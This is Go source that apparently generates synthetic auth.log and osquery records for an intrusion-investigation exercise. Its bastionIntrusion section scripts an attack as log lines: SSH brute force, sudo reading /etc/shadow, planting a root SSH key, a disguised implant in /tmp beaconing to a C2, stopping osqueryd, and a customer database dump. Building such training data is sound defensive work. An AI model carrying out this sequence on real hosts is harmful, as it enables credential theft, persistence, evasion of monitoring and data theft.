package main

import (
	"strings"
	"time"
)

// auth.log of Debian 12 hosts: rsyslog's default RSYSLOG_FileFormat, an
// RFC 3164 line without PRI whose timestamp is RFC 3339 with microseconds
// (the traditional "Nov 10 08:00:01" has no year, so an archive replayed
// a year later would land in the wrong year).

func (s *story) authLine(h string, t time.Time, prog string, pid int, msg string) {
	tag := prog
	if pid > 0 {
		tag = sprintf("%s[%d]", prog, pid)
	}
	s.auth[h] = append(s.auth[h], rec{t: t, line: sprintf("%s %s %s: %s", t.Format("2006-01-02T15:04:05.000000-07:00"), h, tag, msg)})
}

func (s *story) nextPID() int {
	s.pid += 1 + s.intn(40)
	return s.pid
}

var uids = map[string]int{"root": 0, "admin": 1000, "alice": 1001, "carol": 1002, "henry": 1003, "deploy": 1010}

// sshSession writes a public-key login, its session and its end.
func (s *story) sshSession(h, user, from string, port int, start, end time.Time, fp string, sudo []string) {
	pid := s.nextPID()
	s.authLine(h, start, "sshd", pid, sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s", user, from, port, fp))
	s.authLine(h, start.Add(4*time.Millisecond), "sshd", pid, sprintf("pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", user, uids[user]))
	sess := 100 + s.intn(400)
	s.authLine(h, start.Add(9*time.Millisecond), "systemd-logind", 498, sprintf("New session %d of user %s.", sess, user))
	t := start
	for _, cmd := range sudo {
		t = s.between(t.Add(time.Minute), t.Add(8*time.Minute))
		sp := s.nextPID()
		s.authLine(h, t, "sudo", sp, sprintf("%8s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", user, user, cmd))
		s.authLine(h, t.Add(2*time.Millisecond), "sudo", sp, sprintf("pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)", user, uids[user]))
		s.authLine(h, t.Add(time.Duration(200+s.intn(3000))*time.Millisecond), "sudo", sp, "pam_unix(sudo:session): session closed for user root")
	}
	s.authLine(h, end, "sshd", pid, sprintf("Received disconnect from %s port %d:11: disconnected by user", from, port))
	s.authLine(h, end.Add(time.Millisecond), "sshd", pid, sprintf("Disconnected from user %s %s port %d", user, from, port))
	s.authLine(h, end.Add(2*time.Millisecond), "sshd", pid, sprintf("pam_unix(sshd:session): session closed for user %s", user))
	s.authLine(h, end.Add(5*time.Millisecond), "systemd-logind", 498, sprintf("Session %d logged out. Waiting for processes to exit.", sess))
}

func (s *story) tellHosts() {
	for _, h := range []string{bastion.name, web.name} {
		s.every(at(8, 17, 1), dayEnd, time.Hour, func(t time.Time) {
			t = t.Truncate(time.Minute).Add(time.Second)
			pid := s.nextPID()
			s.authLine(h, t, "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
			s.authLine(h, t.Add(40*time.Millisecond), "CRON", pid, "pam_unix(cron:session): session closed for user root")
		})
	}
	// Admins on the VPN, through the bastion.
	s.sshSession(bastion.name, "alice", "10.8.0.14", 50122, at(8, 21, 4), at(8, 58, 9), "q3J0n8xvT2mKf7sY1aP4eW9cL6uH5bR0dZ2gV8iN3oE", []string{"/usr/bin/apt-get update", "/usr/bin/systemctl status amazon-ssm-agent"})
	s.sshSession(web.name, "alice", bastion.ip, 41822, at(8, 30, 12), at(8, 47, 40), "q3J0n8xvT2mKf7sY1aP4eW9cL6uH5bR0dZ2gV8iN3oE", []string{"/usr/sbin/nginx -t", "/usr/bin/systemctl reload nginx"})
	s.sshSession(bastion.name, "carol", "10.8.0.52", 61544, at(9, 2, 41), at(9, 40, 1), "Zr5uY8pL2wQ9kT4mX7bN1cV6fH3jD0sA8gE5iO2nU7y", []string{"/usr/bin/journalctl -u ssh --since today"})
	s.sshSession(bastion.name, "henry", "10.8.0.101", 52960, at(13, 12, 10), at(13, 55, 29), "Mt7Wq2Xe9Rb4Yn1Uc6Ia3Od8Pf5Lg0Kh2Jj7Hs4Gd9F", nil)
	s.sshSession(web.name, "carol", bastion.ip, 43316, at(13, 14, 5), at(13, 33, 50), "Zr5uY8pL2wQ9kT4mX7bN1cV6fH3jD0sA8gE5iO2nU7y", []string{"/usr/bin/apt-get -y upgrade", "/usr/bin/systemctl restart webapp"})

	s.bastionIntrusion()
	s.osqueryDay()
}

func (s *story) bastionIntrusion() {
	h := bastion.name
	invalid := []string{"admin", "test", "oracle", "ubuntu", "postgres", "git", "jenkins", "ftpuser"}
	n := 0
	for t := at(10, 10, 2); t.Before(at(10, 21, 0)); t = t.Add(20 * time.Second) {
		pid := s.nextPID()
		port := s.port()
		s.authLine(h, t, "sshd", pid, sprintf("Connection from %s port %d on %s port 22 rdomain \"\"", attackerIP, port, bastion.ip))
		if n < len(invalid) {
			u := invalid[n]
			s.authLine(h, t.Add(300*time.Millisecond), "sshd", pid, sprintf("Invalid user %s from %s port %d", u, attackerIP, port))
			s.authLine(h, t.Add(2100*time.Millisecond), "sshd", pid, sprintf("pam_unix(sshd:auth): check pass; user unknown"))
			s.authLine(h, t.Add(2101*time.Millisecond), "sshd", pid, sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s", attackerIP))
			s.authLine(h, t.Add(3900*time.Millisecond), "sshd", pid, sprintf("Failed password for invalid user %s from %s port %d ssh2", u, attackerIP, port))
			s.authLine(h, t.Add(4200*time.Millisecond), "sshd", pid, sprintf("Connection closed by invalid user %s %s port %d [preauth]", u, attackerIP, port))
		} else {
			s.authLine(h, t.Add(2100*time.Millisecond), "sshd", pid, sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=deploy", attackerIP))
			for i := 0; i < 3; i++ {
				s.authLine(h, t.Add(time.Duration(2300+i*1500)*time.Millisecond), "sshd", pid, sprintf("Failed password for deploy from %s port %d ssh2", attackerIP, port))
			}
			s.authLine(h, t.Add(6900*time.Millisecond), "sshd", pid, sprintf("error: maximum authentication attempts exceeded for deploy from %s port %d ssh2 [preauth]", attackerIP, port))
			s.authLine(h, t.Add(6901*time.Millisecond), "sshd", pid, sprintf("Disconnecting authenticating user deploy %s port %d: Too many authentication failures [preauth]", attackerIP, port))
		}
		n++
	}
	// The password from infra-ansible works.
	pid := s.nextPID()
	login := at(10, 21, 4)
	s.authLine(h, login, "sshd", pid, sprintf("Connection from %s port 51622 on %s port 22 rdomain \"\"", attackerIP, bastion.ip))
	s.authLine(h, login.Add(900*time.Millisecond), "sshd", pid, sprintf("Accepted password for deploy from %s port 51622 ssh2", attackerIP))
	s.authLine(h, login.Add(904*time.Millisecond), "sshd", pid, "pam_unix(sshd:session): session opened for user deploy(uid=1010) by (uid=0)")
	s.authLine(h, login.Add(910*time.Millisecond), "systemd-logind", 498, "New session 311 of user deploy.")
	sudo := func(t time.Time, pwd, cmd string) {
		sp := s.nextPID()
		s.authLine(h, t, "sudo", sp, sprintf("  deploy : TTY=pts/1 ; PWD=%s ; USER=root ; COMMAND=%s", pwd, cmd))
		s.authLine(h, t.Add(2*time.Millisecond), "sudo", sp, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1010)")
		s.authLine(h, t.Add(300*time.Millisecond), "sudo", sp, "pam_unix(sudo:session): session closed for user root")
	}
	sudo(at(10, 22, 10), "/home/deploy", "list")
	sudo(at(10, 22, 41), "/home/deploy", "/usr/bin/cat /etc/shadow")
	sudo(at(10, 23, 15), "/home/deploy", "/usr/bin/tee -a /root/.ssh/authorized_keys")
	sudo(at(10, 25, 30), "/tmp/.x", "/usr/bin/systemctl enable --now /tmp/.x/kworkerd.service")
	sudo(at(11, 36, 12), "/home/deploy", "/usr/bin/systemctl stop osqueryd")
	end := at(11, 51, 40)
	s.authLine(h, end, "sshd", pid, sprintf("Received disconnect from %s port 51622:11: disconnected by user", attackerIP))
	s.authLine(h, end.Add(time.Millisecond), "sshd", pid, sprintf("Disconnected from user deploy %s port 51622", attackerIP))
	s.authLine(h, end.Add(2*time.Millisecond), "sshd", pid, "pam_unix(sshd:session): session closed for user deploy")
}

// osquery results (differential) of both hosts.

func (s *story) osq(h host, t time.Time, name string, counter int, action string, cols obj) {
	s.osquery[h.name] = append(s.osquery[h.name], rec{t: t, j: o("name", name, "hostIdentifier", h.name,
		"calendarTime", t.Format("Mon Jan _2 15:04:05 2006 UTC"), "unixTime", t.Unix(), "epoch", 0, "counter", counter, "numerics", false,
		"decorations", o("host_uuid", map[string]string{bastion.name: "ec2b7e3d-9a4c-2f18-e65a-0b7e3d9a4c2f", web.name: "ec204c8f-2a6d-1e9b-3f70-04c8f2a6d1e9"}[h.name],
			"hostname", h.name),
		"columns", cols, "action", action)})
}

func (s *story) osqueryDay() {
	type q struct {
		name     string
		interval time.Duration
	}
	procs := q{"pack_fernhill_processes", 5 * time.Minute}
	sockets := q{"pack_fernhill_outbound_sockets", 5 * time.Minute}
	users := q{"pack_fernhill_logged_in_users", 10 * time.Minute}
	keys := q{"pack_fernhill_authorized_keys", 15 * time.Minute}
	pkgs := q{"pack_fernhill_deb_packages", time.Hour}
	counters := map[string]int{}
	next := func(h host, name string) int {
		k := h.name + name
		counters[k]++
		return 1200 + counters[k]
	}
	proc := func(h host, t time.Time, action string, pid int, name, path, cmd, user string, parent int) {
		s.osq(h, t, procs.name, next(h, procs.name), action, o("pid", sprintf("%d", pid), "name", name, "path", path, "cmdline", cmd,
			"uid", sprintf("%d", uids[user]), "parent", sprintf("%d", parent), "on_disk", "1", "start_time", sprintf("%d", t.Add(-time.Duration(s.intn(290))*time.Second).Unix())))
	}
	stopBastion := at(11, 36, 12)
	for _, h := range []host{bastion, web} {
		// Short-lived work of the day: apt, certbot, backups, logrotate.
		s.every(dayStart, dayEnd, 25*time.Minute, func(t time.Time) {
			if h.name == bastion.name && t.After(stopBastion) {
				return
			}
			pid := s.nextPID()
			c := s.pick("/usr/bin/apt-get -qq update|apt-get", "/usr/sbin/logrotate /etc/logrotate.conf|logrotate", "/usr/bin/python3 /usr/bin/unattended-upgrade|unattended-upgr", "/usr/bin/find /var/tmp -mtime +7 -delete|find")
			parts := strings.SplitN(c, "|", 2)
			path := strings.Fields(parts[0])[0]
			proc(h, t, "added", pid, parts[1], path, parts[0], "root", 1)
			proc(h, t.Add(5*time.Minute), "removed", pid, parts[1], path, parts[0], "root", 1)
		})
		s.every(dayStart, dayEnd, 30*time.Minute, func(t time.Time) {
			if h.name == bastion.name && t.After(stopBastion) {
				return
			}
			s.osq(h, t, sockets.name, next(h, sockets.name), "added", o("pid", "612", "path", "/usr/bin/amazon-ssm-agent",
				"local_address", h.ip, "local_port", sprintf("%d", s.port()), "remote_address", "192.0.2.241", "remote_port", "443", "family", "2", "protocol", "6"))
		})
	}
	for _, l := range []struct {
		h    host
		user string
		from string
		at   time.Time
		end  time.Time
	}{
		{bastion, "alice", "10.8.0.14", at(8, 21, 4), at(8, 58, 9)}, {web, "alice", bastion.ip, at(8, 30, 12), at(8, 47, 40)},
		{bastion, "carol", "10.8.0.52", at(9, 2, 41), at(9, 40, 1)}, {bastion, "deploy", attackerIP, at(10, 21, 5), at(11, 51, 40)},
		{bastion, "henry", "10.8.0.101", at(13, 12, 10), at(13, 55, 29)}, {web, "carol", bastion.ip, at(13, 14, 5), at(13, 33, 50)},
	} {
		t := l.at.Truncate(10 * time.Minute).Add(10*time.Minute + 3*time.Second)
		row := o("type", "user", "user", l.user, "tty", "pts/0", "host", l.from, "time", sprintf("%d", l.at.Unix()), "pid", sprintf("%d", s.nextPID()))
		s.osq(l.h, t, users.name, next(l.h, users.name), "added", row)
		e := l.end.Truncate(10 * time.Minute).Add(10*time.Minute + 3*time.Second)
		if l.h.name == bastion.name && e.After(stopBastion) {
			continue
		}
		s.osq(l.h, e, users.name, next(l.h, users.name), "removed", row)
	}
	// carol's upgrade on web-1 at 13:20.
	for _, p := range []struct{ name, old, new string }{{"openssl", "3.0.14-1~deb12u2", "3.0.15-1~deb12u1"}, {"libssl3", "3.0.14-1~deb12u2", "3.0.15-1~deb12u1"}, {"nginx", "1.22.1-9", "1.22.1-9+deb12u1"}} {
		t := at(14, 0, 5).Add(-30 * time.Minute)
		s.osq(web, t, pkgs.name, next(web, pkgs.name), "removed", o("name", p.name, "version", p.old, "source", p.name, "arch", "amd64"))
		s.osq(web, t, pkgs.name, next(web, pkgs.name), "added", o("name", p.name, "version", p.new, "source", p.name, "arch", "amd64"))
	}

	// The intruder on bastion-1: a key for root, the implant from /tmp
	// and its connection to the C2, until osqueryd is stopped at 11:36.
	s.osq(bastion, at(10, 30, 3), keys.name, next(bastion, keys.name), "added", o("uid", "0", "username", "root", "algorithm", "ssh-ed25519",
		"key", "AAAAC3NzaC1lZDI1NTE5AAAAIHq7Xw2c9Lk1mP4sN8vB3yR6tF0eJ5aD2hG7uQ9iO1nZ", "key_file", "/root/.ssh/authorized_keys", "comment", "kali@kali"))
	s.osq(bastion, at(10, 30, 3), procs.name, next(bastion, procs.name), "added", o("pid", "48917", "name", "kworkerd", "path", "/tmp/.x/kworkerd",
		"cmdline", "/tmp/.x/kworkerd -c "+c2Name+":443", "uid", "0", "parent", "1", "on_disk", "1", "start_time", sprintf("%d", at(10, 25, 31).Unix())))
	s.osq(bastion, at(10, 30, 3), sockets.name, next(bastion, sockets.name), "added", o("pid", "48917", "path", "/tmp/.x/kworkerd",
		"local_address", bastion.ip, "local_port", "52144", "remote_address", c2IP, "remote_port", "443", "family", "2", "protocol", "6"))
	s.osq(bastion, at(11, 35, 3), procs.name, next(bastion, procs.name), "added", o("pid", "51233", "name", "pg_dump", "path", "/usr/bin/pg_dump",
		"cmdline", "pg_dump -h fernhill-db.c9xk2m1p0q3r.eu-west-1.rds.amazonaws.com -U app -Fc customers", "uid", "1010", "parent", "48917", "on_disk", "1", "start_time", sprintf("%d", at(11, 31, 50).Unix())))
}
